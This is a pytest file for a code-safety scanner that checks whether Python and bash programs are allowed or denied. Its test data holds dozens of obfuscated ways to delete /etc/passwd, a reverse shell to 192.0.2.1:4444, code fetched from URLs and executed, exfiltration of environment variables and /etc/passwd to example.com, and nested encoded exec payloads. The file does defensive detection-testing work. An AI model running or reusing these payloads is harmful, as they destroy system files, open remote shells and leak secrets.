"""What a program does is seen through the ways in which it can be written."""

# ruff: noqa: E501 - a program in a string reads better on one line

from __future__ import annotations

import pytest

from mayfly.scan import builtin_policy, scan

DEFAULT = builtin_policy("default")


def verdict_of(source: str, lang: str = "python") -> str:
    return scan(source.encode(), lang=lang, policy=DEFAULT).verdict  # type: ignore[arg-type]


def rules_of(source: str, lang: str = "python") -> set[str]:
    return {f.rule for f in scan(source.encode(), lang=lang, policy=DEFAULT).findings}  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("import os as o\no.remove('/etc/passwd')", id="alias"),
        pytest.param("from os import remove as r\nr('/etc/passwd')", id="from-import"),
        pytest.param("from os import *\nremove('/etc/passwd')", id="star-import"),
        pytest.param("import os\nf = os.remove\nf('/etc/passwd')", id="assigned-function"),
        pytest.param("import os\np = '/etc' + '/' + 'passwd'\nos.remove(p)", id="joined-text"),
        pytest.param("import os\nname = 'passwd'\nos.remove(f'/etc/{name}')", id="f-string"),
        pytest.param("import os\nos.remove('/etc/%s' % 'passwd')", id="percent-format"),
        pytest.param("import os\nos.remove('{}/{}'.format('/etc', 'passwd'))", id="format"),
        pytest.param(
            "import os\nos.remove(''.join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))",
            id="chr",
        ),
        pytest.param("import os\nos.remove('dwssap/cte/'[::-1])", id="reversed"),
        pytest.param("import os, base64\nos.remove(base64.b64decode('L2V0Yy9wYXNzd2Q='))", id="base64"),
        pytest.param("import os\nos.remove(bytes.fromhex('2f6574632f706173737764').decode())", id="hex"),
        pytest.param("import os\nos.remove(''.join(chr(ord(c) ^ 1) for c in '.dub.q`rrve'))", id="xor"),
        pytest.param("import codecs, os\nos.remove(codecs.decode('/rgp/cnffjq', 'rot13'))", id="rot13"),
        pytest.param("import os\ndef wipe(p):\n    os.remove(p)\nwipe('/etc/passwd')", id="parameter"),
        pytest.param("import os\ndef wipe(p='/etc/passwd'):\n    os.remove(p)", id="default-of-uncalled"),
        pytest.param(
            "import os\nclass A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        os.remove(self.p)\nA('/etc/passwd').go()",
            id="attribute",
        ),
        pytest.param("import os\nfor p in ['a', '/etc/passwd']:\n    os.remove(p)", id="loop"),
        pytest.param("import os\np = 'a'\nif x:\n    p = '/etc/passwd'\nos.remove(p)", id="branch"),
        pytest.param("import os\np = '/etc/passwd'\nif x:\n    p = 'a'\nos.remove(p)", id="other-branch"),
        pytest.param("import os\n[os.remove(p) for p in ('/etc/passwd',)]", id="comprehension"),
        pytest.param("import os\nlist(map(os.remove, ['/etc/passwd']))", id="map"),
        pytest.param(
            "import os, threading\nthreading.Thread(target=os.remove, args=('/etc/passwd',)).start()", id="thread"
        ),
        pytest.param("import os\n(lambda p: os.remove(p))('/etc/passwd')", id="lambda"),
        pytest.param("import os\nos.remove(os.path.join('/etc', 'passwd'))", id="path-join"),
        pytest.param("from pathlib import Path\n(Path('/etc') / 'passwd').unlink()", id="pathlib"),
        pytest.param("import os\nos.remove('/etc/../etc/./passwd')", id="dotted-path"),
        pytest.param("import shutil\nshutil.os.remove('/etc/passwd')", id="through-another-module"),
        pytest.param("import sys\nsys.modules['os'].remove('/etc/passwd')", id="sys-modules"),
        pytest.param("__import__('os').remove('/etc/passwd')", id="import-function"),
        pytest.param("import importlib\nimportlib.import_module('o' + 's').remove('/etc/passwd')", id="importlib"),
        pytest.param("import os\ngetattr(os, 'rem' + 'ove')('/etc/passwd')", id="getattr"),
        pytest.param("import os\nos.__dict__['remove']('/etc/passwd')", id="dict"),
        pytest.param("exec(\"import os; os.remove('/etc/passwd')\")", id="exec"),
        pytest.param("exec(compile(\"import os; os.remove('/etc/passwd')\", 'x', 'exec'))", id="compile"),
        pytest.param("import os\nos.system('rm -f /etc/passwd')", id="shell"),
        pytest.param("import os\nos.system(\"sh -c 'rm /etc/passwd'\")", id="nested-shell"),
        pytest.param("import subprocess\nsubprocess.run(['sudo', 'rm', '-f', '/etc/passwd'])", id="argument-list"),
        pytest.param("import subprocess as s\ns.Popen('rm /etc/passwd', shell=True)", id="popen"),
        pytest.param(
            "import os\nos.system('python3 -c \"import os; os.remove(\\'/etc/passwd\\')\"')",
            id="python-in-shell-in-python",
        ),
        pytest.param("try:\n    import os\nfinally:\n    os.unlink('/etc/passwd')", id="finally"),
        pytest.param("import os\nasync def f():\n    os.remove('/etc/passwd')", id="async"),
        pytest.param("import os\nmatch 1:\n    case _:\n        os.remove('/etc/passwd')", id="match"),
        pytest.param("import os\nwith open('a') as f, open('b') as g:\n    os.remove('/etc/passwd')", id="with"),
    ],
)
def test_deleting_a_system_file_is_denied_however_it_is_written(source: str) -> None:
    assert verdict_of(source) == "deny"


def test_a_pickle_is_judged_by_where_it_comes_from() -> None:
    assert verdict_of("import pandas\nprint(pandas.read_pickle('https://example.com/frame.pkl'))") == "deny"
    assert verdict_of("import pandas\nprint(pandas.read_pickle('frame.pkl'))") == "allow"


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("rm /etc/passwd", id="plain"),
        pytest.param('F=/etc/passwd; rm -f "$F"', id="variable"),
        pytest.param("d=/etc\nrm ${d}/passwd", id="braces"),
        pytest.param("r''m /e\"t\"c/pas\\swd", id="broken-quotes"),
        pytest.param("$'\\x72m' /etc/passwd", id="ansi-c"),
        pytest.param("c='rm /etc/passwd'; $c", id="unquoted-variable"),
        pytest.param('f() { rm "$1"; }; f /etc/passwd', id="function"),
        pytest.param("for x in a /etc/passwd; do rm $x; done", id="loop"),
        pytest.param("if true; then rm /etc/passwd; fi", id="if"),
        pytest.param("(cd /; rm /etc/passwd) &", id="subshell"),
        pytest.param("sudo -u root env A=1 nice rm /etc/passwd", id="wrappers"),
        pytest.param("echo cm0gL2V0Yy9wYXNzd2Q= | base64 -d | bash", id="encoded"),
        pytest.param("eval \"$(printf '\\x72\\x6d /etc/passwd')\"", id="eval-printf"),
        pytest.param("bash <<'EOF'\nrm /etc/passwd\nEOF", id="heredoc"),
        pytest.param("bash <<< 'rm /etc/passwd'", id="herestring"),
        pytest.param("echo /etc/passwd | xargs rm", id="xargs"),
        pytest.param("find /etc -name passwd -exec rm {} \\;", id="find-exec"),
        pytest.param("python3 -c \"import os; os.remove('/etc/passwd')\"", id="python"),
        pytest.param("x=$(echo /etc/passwd); rm $x", id="substitution"),
        pytest.param("{rm,/etc/passwd}", id="brace-words"),
        pytest.param("busybox rm /etc/passwd", id="busybox"),
        pytest.param("while read f; do rm /etc/passwd; done < list", id="while-read"),
        pytest.param("> /etc/passwd", id="emptied-by-redirection"),
        pytest.param("echo | tee /etc/passwd", id="tee"),
        pytest.param("dd if=/dev/null of=/etc/passwd", id="dd"),
        pytest.param("sed -i d /etc/passwd", id="sed"),
    ],
)
def test_a_script_that_removes_account_data_is_denied_however_it_is_written(source: str) -> None:
    assert verdict_of(source, "bash") == "deny"


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        pytest.param(
            "import socket,subprocess,os\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
            "MF-PROC-002",
            id="dup2-shell",
        ),
        pytest.param(
            "import socket, os\ns = socket.create_connection(('h.invalid', 1))\nos.system(s.recv(100).decode())",
            "MF-PROC-002",
            id="commands-from-a-socket",
        ),
        pytest.param(
            "import urllib.request as u\nexec(u.urlopen('https://example.com/a').read())",
            "MF-DYN-001",
            id="exec-of-a-page",
        ),
        pytest.param(
            "import requests\nr = requests.get('https://example.com')\neval(r.json()['code'])",
            "MF-DYN-001",
            id="eval-of-an-answer",
        ),
        pytest.param(
            "import pickle, requests\npickle.loads(requests.get('https://example.com').content)",
            "MF-NAT-002",
            id="pickle-of-a-page",
        ),
        pytest.param(
            "import os, requests\nfor k, v in os.environ.items():\n    requests.get('https://example.com/?' + k + '=' + v)",
            "MF-NET-006",
            id="environment-in-a-url",
        ),
        pytest.param(
            "import requests\nd = open('/etc/passwd').read()\nrequests.post('https://example.com', data={'d': d})",
            "MF-NET-006",
            id="file-in-a-field",
        ),
        pytest.param(
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADTUCuA==')))",
            "MF-DYN-002",
            id="compressed",
        ),
        pytest.param(
            "import bz2, base64\nexec(bz2.decompress(base64.b64decode("
            "'QlpoOTFBWSZTWTQD2vYAAAfRgAAQQOGuIt2AIAAimgaGRieoUwmmgNMR4TCnclcwA3dxlm8ZQJiFS1fi7kinChIGgHtewA==')))",
            "MF-FILE-004",
            id="compressed-with-bzip2",
        ),
        pytest.param(
            "import lzma, base64\nexec(lzma.LZMADecompressor().decompress(base64.b64decode("
            "'/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAhaW1wb3J0IG9zCm9zLnJlbW92ZSgnL2V0Yy9wYXNzd2QnKQAAAAlvv+RnWoiAAAE6IrYqT9AftvN9"
            "AQAAAAAEWVo=')))",
            "MF-FILE-004",
            id="compressed-with-lzma",
        ),
        pytest.param(
            "import zlib, base64\nd = zlib.decompressobj(-15)\nexec(d.decompress(base64.b64decode("
            "'y8wtyC8qUcgv5sov1itKzc0vS9VQ108tSdYvSCwuLk9R1wQA')))",
            "MF-FILE-004",
            id="compressed-without-a-header",
        ),
        pytest.param("().__class__.__mro__[-1].__subclasses__()[40]('x')", "MF-DYN-005", id="ladder"),
        pytest.param("def f():\n    pass\nf.__globals__['__builtins__']['eval']('1')", "MF-DYN-005", id="globals"),
        pytest.param("while 1 == 1:\n    print('x')", "MF-RES-001", id="comparison-that-holds"),
        pytest.param("i = 0\nwhile i < 10:\n    print(i)", "MF-RES-001", id="counter-that-stands-still"),
        pytest.param("import itertools\nfor i in itertools.count():\n    print(i)", "MF-RES-001", id="count"),
        pytest.param("a = [1]\nfor x in a:\n    a.append(x)", "MF-RES-004", id="list-that-grows-under-the-loop"),
        pytest.param("x = bytearray(50 * 1024**3)", "MF-RES-003", id="bytearray"),
        pytest.param("x = 10 ** 10 ** 10", "MF-RES-003", id="tower-of-powers"),
        pytest.param("import numpy as np\na = np.zeros((200000, 200000))", "MF-RES-003", id="array"),
    ],
)
def test_behaviour_is_named(source: str, rule: str) -> None:
    assert rule in rules_of(source)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("import os\nfor name in os.listdir('.'):\n    print(os.path.getsize(name))", id="own-directory"),
        pytest.param(
            "import subprocess\nprint(subprocess.run(['ls', '-l'], capture_output=True, text=True).stdout)", id="ls"
        ),
        pytest.param(
            "import subprocess, sys\np = subprocess.Popen([sys.executable, '-c', 'print(1)'])\np.wait()\np.terminate()",
            id="own-child",
        ),
        pytest.param(
            "import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()",
            id="url-from-a-parameter",
        ),
        pytest.param(
            "import json, urllib.request\nprint(json.load(urllib.request.urlopen('https://api.github.com/repos/python/cpython')))",
            id="well-known-host",
        ),
        pytest.param(
            "import tempfile, os\nwith tempfile.NamedTemporaryFile(delete=False) as f:\n    f.write(b'x')\nos.remove(f.name)",
            id="temporary-file",
        ),
        pytest.param("import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)", id="temporary-directory"),
        pytest.param(
            "import base64\nprint(base64.b64encode(b'hello'))\nprint(base64.b64decode('aGVsbG8='))", id="base64"
        ),
        pytest.param("import os\nprint(os.environ.get('HOME', '/'))", id="one-variable"),
        pytest.param(
            "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'CC': 'gcc'})",
            id="environment-handed-on",
        ),
        pytest.param(
            "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\nc, _ = s.accept()\nprint(c.recv(10))",
            id="local-server",
        ),
        pytest.param("import pickle\nwith open('m.pkl', 'rb') as f:\n    m = pickle.load(f)", id="own-pickle"),
        pytest.param(
            "from collections import deque\nq = deque([1])\nwhile q:\n    n = q.popleft()\n    if n < 9:\n        q.append(n + 1)",
            id="queue",
        ),
        pytest.param("import re\nprint(re.compile('a').match('a'))", id="re-compile"),
        pytest.param(
            "class A:\n    def __init__(self):\n        self.x = {}\n    def __getattr__(self, n):\n        return self.x[n]",
            id="getattr-method",
        ),
        pytest.param(
            "def fib(n):\n    if n < 2:\n        return n\n    return fib(n - 1) + fib(n - 2)\nprint(fib(20))",
            id="recursion",
        ),
        pytest.param(
            "import threading\nts = [threading.Thread(target=print, args=(i,)) for i in range(4)]\nfor t in ts:\n    t.start()\nfor t in ts:\n    t.join()",
            id="threads",
        ),
        pytest.param("import zipfile\nwith zipfile.ZipFile('a.zip') as z:\n    z.extractall('out')", id="zip"),
        pytest.param("import hashlib\nprint(hashlib.sha256(open('a', 'rb').read()).hexdigest())", id="hash"),
        pytest.param(
            "import sys\nwhile True:\n    line = sys.stdin.readline()\n    if not line:\n        break\n    print(line)",
            id="read-loop",
        ),
        pytest.param("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('create table t (a)')", id="sqlite"),
        pytest.param("import logging\nlogging.basicConfig(filename='app.log')\nlogging.info('x')", id="logging"),
    ],
)
def test_ordinary_programs_are_allowed(source: str) -> None:
    answer = scan(source.encode(), lang="python", policy=DEFAULT)
    assert answer.verdict == "allow", answer.findings


@pytest.mark.parametrize(
    "source",
    [
        "set -euo pipefail\nmkdir -p build && cd build\ncmake .. && make -j4",
        'for f in *.txt; do wc -l "$f"; done | sort -n | tail -5',
        "x=$((1 + 2)); [ $x -eq 3 ] && echo ok || exit 1",
        "curl -s https://api.github.com/zen\nrm -rf build dist *.egg-info",
        "sleep 5 &\npid=$!\nkill $pid\nwait",
        "tar czf out.tgz data && sha256sum out.tgz > out.sha256",
        "case $1 in start) echo a;; *) echo b;; esac",
        "awk -F, '{s += $3} END {print s}' data.csv",
        'while read -r line; do echo "$line"; done < input.txt',
        "cat <<EOF > config.ini\n[a]\nb = 1\nEOF",
    ],
)
def test_ordinary_scripts_are_allowed(source: str) -> None:
    answer = scan(source.encode(), lang="bash", policy=DEFAULT)
    assert answer.verdict == "allow", answer.findings


def test_capabilities_name_what_a_program_seems_to_need() -> None:
    def needs(source: str, lang: str = "python") -> tuple[str, ...]:
        return scan(source.encode(), lang=lang, policy=DEFAULT).capabilities  # type: ignore[arg-type]

    assert needs("print(1 + 1)") == ()
    assert needs("import requests\nrequests.get('https://example.com')\nopen('a', 'w')") == ("fs-write", "net")
    assert "proc" in needs("import subprocess\nsubprocess.run(['ls'])")
    assert needs("echo hi", "bash") == ()
    assert "net" in needs("curl https://example.com", "bash")


def test_a_decoded_payload_is_followed_through_three_layers() -> None:
    import base64

    program = b"import os; os.remove('/etc/passwd')"
    for _ in range(3):
        program = b"import base64; exec(base64.b64decode(%r))" % base64.b64encode(program)
    assert "MF-FILE-004" in rules_of(program.decode())
